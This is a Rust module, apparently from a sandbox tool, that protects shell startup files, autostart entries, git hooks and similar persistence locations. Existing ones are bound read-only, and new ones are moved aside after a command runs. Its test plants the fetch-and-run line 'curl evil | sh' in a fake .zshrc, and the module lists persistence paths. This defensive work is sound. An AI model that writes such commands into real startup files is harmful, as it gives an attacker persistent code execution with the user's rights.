//! Files that run later, outside the sandbox: a command under `run` must not write them, or
//! what it writes runs with the user's full rights once `run` is over (a line in `~/.bashrc`,
//! an autostart entry, a git hook, a direnv file).
//!
//! Those that exist are bound read-only in the command's mount namespace (it can neither
//! change, replace nor remove them: a mount point cannot be renamed or unlinked). Those that do
//! not exist cannot be mount points; they are watched instead: whatever the command created
//! there is moved aside when it is gone, before anything outside can run it, with a warning.
//! The bound ones are checked again too: renaming a parent directory (`~/.config`, `.git`)
//! moves the mount with it and frees the path, so a path that no longer holds the file it
//! held at the start is moved aside the same way.
//! The window: a shell the user starts *while* the command runs reads a startup file the
//! command just created (docs/THREATS.md).

use std::{
    os::unix::fs::MetadataExt as _,
    path::{Path, PathBuf},
};

/// Below the invoking user's home.
const HOME: [&str; 24] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".xprofile",
    ".xsessionrc",
    ".xinitrc",
    ".pam_environment",
    ".gitconfig",
    ".ssh",
    ".config/autostart",
    ".config/systemd",
    ".config/git",
    ".config/fish",
    ".config/environment.d",
    ".config/bash",
    ".config/zsh",
    ".local/share/applications",
];

/// Below the top of the working directory's git repository (or the working directory).
const PROJECT: [&str; 4] = [".git/hooks", ".git/config", ".vscode", ".envrc"];

/// What to protect for a command whose home is `home`, started in `cwd`, minus `writable`
/// (absolute paths, or `~/...`).
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Protected {
    /// Exist now: bound read-only.
    pub existing: Vec<PathBuf>,
    /// Do not exist: watched, moved aside at exit if created.
    pub missing: Vec<PathBuf>,
    /// The (device, inode) each of `existing` had at the start.
    identity: Vec<(u64, u64)>,
    /// The home and the project top: the paths above them are not the command's to change.
    anchors: Vec<PathBuf>,
    /// The (device, inode) of each directory between an anchor and a protected path at the
    /// start, symlinks not followed: a symlink there that was not there before is the
    /// command's, and the agent (root) must not follow it when it moves things aside.
    parents: std::collections::HashMap<PathBuf, (u64, u64)>,
}

impl Protected {
    /// The paths for `home` and `cwd`.
    pub fn find(home: Option<&Path>, cwd: &Path, writable: &[String]) -> Self {
        let open: Vec<PathBuf> = writable
            .iter()
            .filter_map(|w| match w.strip_prefix("~/") {
                Some(rest) => home.map(|h| h.join(rest)),
                None => Some(PathBuf::from(w)),
            })
            .collect();
        let mut all: Vec<PathBuf> = Vec::new();
        if let Some(h) = home {
            all.extend(HOME.iter().map(|p| h.join(p)));
        }
        let top = project_top(cwd);
        all.extend(PROJECT.iter().map(|p| top.join(p)));
        let mut out = Self {
            anchors: home
                .map(Path::to_path_buf)
                .into_iter()
                .chain([top])
                .collect(),
            ..Self::default()
        };
        for p in all {
            // A writable entry opens the path itself and everything below it.
            if open.iter().any(|o| p.starts_with(o)) || out.existing.contains(&p) {
                continue;
            }
            for d in out.between(&p) {
                if let Ok(m) = d.symlink_metadata() {
                    out.parents.insert(d, (m.dev(), m.ino()));
                }
            }
            match p.symlink_metadata() {
                Ok(m) => {
                    out.existing.push(p);
                    out.identity.push((m.dev(), m.ino()));
                }
                Err(_) => out.missing.push(p),
            }
        }
        out
    }

    /// Moves aside whatever was created at a watched path (after the command is gone); the
    /// paths moved, with where they went.
    pub fn quarantine(&self) -> Vec<(PathBuf, PathBuf)> {
        let stamp = std::process::id();
        let mut moved = Vec::new();
        let replaced = self
            .existing
            .iter()
            .zip(&self.identity)
            .filter(|(p, id)| {
                p.symlink_metadata()
                    .is_ok_and(|m| (m.dev(), m.ino()) != **id)
            })
            .map(|(p, _)| p);
        let aside = |p: &Path, moved: &mut Vec<(PathBuf, PathBuf)>| {
            let mut to = p.as_os_str().to_owned();
            to.push(format!(".egress-blocked-{stamp}"));
            let to = PathBuf::from(to);
            // rename(2) moves a symlink itself, never what it points to.
            if std::fs::rename(p, &to).is_ok() {
                moved.push((p.to_path_buf(), to));
            }
        };
        for p in self.missing.iter().chain(replaced) {
            // A symlink the command put between the anchor and the path (say `~/.config`
            // pointing elsewhere) is moved aside itself: following it, the agent could move
            // any file of the machine, and the path would resolve through it later.
            let planted = self.between(p).into_iter().find(|d| {
                d.symlink_metadata().is_ok_and(|m| {
                    m.file_type().is_symlink() && self.parents.get(d) != Some(&(m.dev(), m.ino()))
                })
            });
            if let Some(link) = planted {
                aside(&link, &mut moved);
                continue;
            }
            if p.symlink_metadata().is_ok() {
                aside(p, &mut moved);
            }
        }
        moved
    }

    /// The directories strictly between the anchor `p` is below and `p`, outermost first.
    fn between(&self, p: &Path) -> Vec<PathBuf> {
        let Some(anchor) = self
            .anchors
            .iter()
            .filter(|a| p.starts_with(a))
            .max_by_key(|a| a.as_os_str().len())
        else {
            return Vec::new();
        };
        let mut dirs: Vec<PathBuf> = p
            .ancestors()
            .skip(1)
            .take_while(|d| *d != anchor.as_path())
            .map(Path::to_path_buf)
            .collect();
        dirs.reverse();
        dirs
    }
}

/// The top of the git repository holding `cwd` (the first ancestor with a `.git`), else
/// `cwd` itself.
fn project_top(cwd: &Path) -> PathBuf {
    cwd.ancestors()
        .find(|d| d.join(".git").symlink_metadata().is_ok())
        .unwrap_or(cwd)
        .to_path_buf()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn existing_paths_are_bound_missing_ones_watched_writable_ones_left_alone() {
        let dir = std::env::temp_dir().join(format!("egress-persist-{}", std::process::id()));
        let home = dir.join("home");
        let repo = dir.join("repo");
        std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
        std::fs::write(home.join(".bashrc"), "").unwrap();
        std::fs::write(home.join(".profile"), "").unwrap();
        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(repo.join("src")).unwrap();
        let p = Protected::find(Some(&home), &repo.join("src"), &["~/.profile".into()]);
        assert!(p.existing.contains(&home.join(".bashrc")));
        assert!(p.existing.contains(&home.join(".config/autostart")));
        assert!(p.existing.contains(&repo.join(".git/hooks")));
        assert!(p.missing.contains(&home.join(".zshrc")));
        assert!(p.missing.contains(&repo.join(".envrc")));
        assert!(!p.existing.contains(&home.join(".profile")));
        assert!(!p.missing.contains(&home.join(".profile")));
        std::fs::write(home.join(".zshrc"), "curl evil | sh").unwrap();
        // A parent renamed away frees a bound path: what is made there in its place goes too.
        std::fs::rename(home.join(".config"), home.join(".config.old")).unwrap();
        std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
        let moved = p.quarantine();
        assert_eq!(moved.len(), 2, "{moved:?}");
        assert!(!home.join(".zshrc").exists());
        assert!(!home.join(".config/autostart").exists());
        assert!(moved.iter().all(|(_, aside)| aside.exists()));
        // A symlink planted as a parent is moved aside itself, never followed.
        let elsewhere = dir.join("elsewhere");
        std::fs::create_dir_all(elsewhere.join("systemd")).unwrap();
        std::fs::remove_dir_all(home.join(".config")).unwrap();
        std::os::unix::fs::symlink(&elsewhere, home.join(".config")).unwrap();
        let moved = p.quarantine();
        assert!(
            elsewhere.join("systemd").exists(),
            "followed the planted link"
        );
        assert!(
            moved.iter().any(|(from, _)| *from == home.join(".config")),
            "{moved:?}"
        );
        assert!(home.join(".config").symlink_metadata().is_err());
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
